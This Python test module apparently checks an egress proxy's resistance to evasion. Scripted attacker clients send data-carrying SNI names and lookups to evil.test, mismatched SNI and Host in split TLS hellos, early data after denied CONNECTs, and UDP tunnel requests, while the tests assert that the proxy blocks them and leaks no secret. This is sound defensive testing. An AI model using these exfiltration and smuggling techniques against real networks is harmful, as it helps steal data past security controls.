"""Written wire cases: ports, early data, split hellos, encrypted hellos, injection."""

from __future__ import annotations

from typing import TYPE_CHECKING

from harness import custom_hello
from harness.custom_hello import ECH, ESNI, GREASE
from harness.namespace import HarnessError
from harness.world import ALLOWED4

from corpus_runner.cases import CANARY
from corpus_runner.evidence import judge, leaks
from corpus_runner.policies import ANY_NAME, ENVIRONMENT, HOST, INJECT, PUBLIC_PATHS
from corpus_runner.scripts import script
from corpus_runner.wire import ask, get, observe

if TYPE_CHECKING:
    from harness.attacker import Attacker
    from harness.proxy import ProxyProcess
    from harness.world import World

    from corpus_runner.cases import Case


@script("PORTS-001", "PORTS-002", "PORTS-007")
def ports(world: World, case: Case) -> None:
    """A port that the rule does not name, and cleartext to the TLS port, go nowhere."""

    def act(client: Attacker) -> None:
        if case.id == "PORTS-002":
            client.connect("allowed.test:22")
        else:
            port = 8080 if case.id == "PORTS-001" else 443
            get(client, f"http://allowed.test:{port}/", f"allowed.test:{port}")

    evidence = observe(world, world.proxy(HOST, ENVIRONMENT), act)
    judge(case, evidence)
    assert not evidence.connections


@script("RAWPROTOCO-037")
def early_data(world: World, case: Case) -> None:
    """What follows a CONNECT in the same segment goes nowhere when the CONNECT is denied."""

    def act(client: Attacker) -> None:
        client.send(b"CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test:443\r\n\r\n" + b"x" * 1000)
        client.response()

    judge(case, observe(world, world.proxy(HOST, ENVIRONMENT), act))


@script("RAWPROTOCO-038")
def data_in_the_hello(world: World, case: Case) -> None:
    """A name that carries data is neither asked for nor sent."""

    def act(client: Attacker) -> None:
        client.connect("evil.test:443")
        client.handshake("mfrggzdfmztwq2lk.evil.test")

    judge(case, observe(world, world.proxy(HOST, ENVIRONMENT), act))


@script("RAWPROTOCO-041")
def split_hello(world: World, case: Case) -> None:
    """A ClientHello in records of one byte is read all the same, whether its name is right or wrong."""
    proxy = world.proxy(HOST, ENVIRONMENT)

    def lie(client: Attacker) -> None:
        if client.connect("allowed.test:443") and client.handshake("evil.test", split=True):
            client.send(b"GET /x HTTP/1.1\r\nHost: evil.test\r\n\r\n")
            client.response()

    judge(case, observe(world, proxy, lie))

    def honest(client: Attacker) -> None:
        if client.connect("allowed.test:443") and client.handshake("allowed.test", split=True):
            client.send(b"GET /x HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            client.response()

    evidence = observe(world, proxy, honest, "allow")
    # Refusing so odd a hello is as good as reading it; passing it on unread would be neither.
    for seen in evidence.connections:
        assert [head.values(b"host") for head in seen.requests] == [[b"allowed.test"]]


@script("SECRETINJE-018")
def placeholder_in_a_url(world: World, case: Case) -> None:
    """A placeholder in the URL stays what it is; the secret goes into its header only."""
    evidence = observe(
        world, world.proxy(INJECT, ENVIRONMENT), lambda client: ask(client, "/?q=__SECRET_PLACEHOLDER__"), "allow"
    )
    judge(case, evidence)
    assert b"GET /?q=__SECRET_PLACEHOLDER__ HTTP/1.1\r\n" in evidence.at("allowed")[0].received


UNBOUND = INJECT.replace("allow: allowed.test:443", "allow: .allowed.test").replace("rules:", "rules:", 1)


@script("SECRETINJE-019")
def secret_of_another_host(world: World, case: Case) -> None:
    """A secret goes to the hosts that it is bound to, and not to those that a rule merely allows."""
    proxy = world.start(UNBOUND, env=ENVIRONMENT)
    evidence = observe(world, proxy, lambda client: ask(client, host="api.allowed.test"))
    proxy.close()
    assert not any(leaks(bytes(seen.received)) for seen in evidence.connections)
    assert [(row["verdict"], row["secrets"]) for row in evidence.rows] == [("allow", "[]")]
    judge(case, evidence, ["no_canary(client)", "no_canary(log)", "no_canary(audit)"])


BY_METHOD = INJECT + "    methods: [GET, POST]\n  - allow: allowed.test:443\n    methods: [OPTIONS]\n"


@script("SECRETINJE-023")
def method_without_injection(world: World, case: Case) -> None:
    """A method that the injecting rule does not name goes without the secret."""

    def act(client: Attacker) -> None:
        if client.connect("allowed.test:443") and client.handshake("allowed.test"):
            client.send(b"OPTIONS /x HTTP/1.1\r\nHost: allowed.test\r\n\r\n")
            client.response()

    evidence = observe(world, world.proxy(BY_METHOD, ENVIRONMENT), act, "allow")
    judge(case, evidence, ["reaches(allowed)", "audit_row(allow)", "no_canary(client)"])
    assert CANARY.encode() not in evidence.at("allowed")[0].received


@script("H1FRAMING-038")
def continue_before_the_decision(world: World, case: Case) -> None:
    """A denied request that expects 100 gets none. The request as written is one that our policy allows."""

    def act(client: Attacker) -> None:
        if client.connect("allowed.test:443") and client.handshake("allowed.test"):
            client.segments(case.segments)
            client.response()

    evidence = observe(world, world.proxy(PUBLIC_PATHS, ENVIRONMENT), act)
    judge(case, evidence)
    assert b"100 Continue" not in evidence.client_bytes


@script("DNS-034")
def no_lookup_of_denied_names(world: World, case: Case) -> None:
    """A denial asks no name server, whatever the way in."""
    proxy = world.proxy(HOST, ENVIRONMENT)
    evidence = observe(world, proxy, lambda client: client.connect("data.evil.test:443"))
    judge(case, evidence, ["no_dns(*)", "audit_row(deny)", "no_upstream_conn(*)"])
    evidence = observe(world, proxy, lambda client: get(client, "http://data.evil.test/", "data.evil.test"))
    judge(case, evidence, ["no_dns(*)", "audit_row(deny)", "no_upstream_conn(*)"])


@script("UDPQUICECH-008", "UDPQUICECH-009")
def encrypted_hello(world: World, case: Case) -> None:
    """GREASE for encrypted hellos does no harm where we open TLS; a name that is only in the old ESNI is none."""
    grease = case.id == "UDPQUICECH-008"
    name, extension, content = ("allowed.test", ECH, GREASE) if grease else (None, ESNI, b"\x13\x01" + b"n" * 200)
    request = b"GET /x HTTP/1.1\r\nHost: allowed.test\r\n\r\n"

    def act(client: Attacker) -> None:
        if client.connect("allowed.test:443"):
            client.answers.inside += custom_hello.ask(client.carrier, name, extension, content, request)

    evidence = observe(world, world.proxy(HOST, ENVIRONMENT), act, case.expected)
    judge(case, evidence)
    assert (b"ok allowed" in evidence.client_bytes) is grease


@script("UDPQUICECH-010")
def connect_udp(world: World, case: Case) -> None:
    """Asking for a UDP tunnel (RFC 9298) by upgrade or as a target gets none."""
    proxy = world.proxy(HOST, ENVIRONMENT)
    template = "http://allowed.test/.well-known/masque/udp/93.184.216.66/443/"

    def act(client: Attacker) -> None:
        get(
            client, template, "allowed.test", b"Connection: Upgrade\r\nUpgrade: connect-udp\r\nCapsule-Protocol: ?1\r\n"
        )

    judge(case, observe(world, proxy, act))


@script("POSITIVECO-016")
def address_by_range(world: World, case: Case) -> None:
    """TLS without SNI to an address that a CIDR rule allows passes; without such a rule it does not."""
    policy = 'version: 1\ndefault: deny\nrules:\n  - allow: "93.184.216.32/29"\n    ports: [443]\n'

    def act(client: Attacker) -> None:
        if client.connect(f"{ALLOWED4}:443") and client.handshake(None):
            client.send(f"GET /x HTTP/1.1\r\nHost: {ALLOWED4}\r\n\r\n".encode())
            client.response()

    evidence = observe(world, world.proxy(policy), act, "allow")
    judge(case, evidence)
    evidence = observe(world, world.proxy(ANY_NAME, ENVIRONMENT), act)
    judge(case, evidence, ["no_upstream_conn(*)", "no_upstream_bytes"])
    assert set(evidence.verdicts) == {"deny"}


def _starts(proxy: ProxyProcess) -> bool:
    try:
        return bool(proxy.address)
    except HarnessError:
        return False
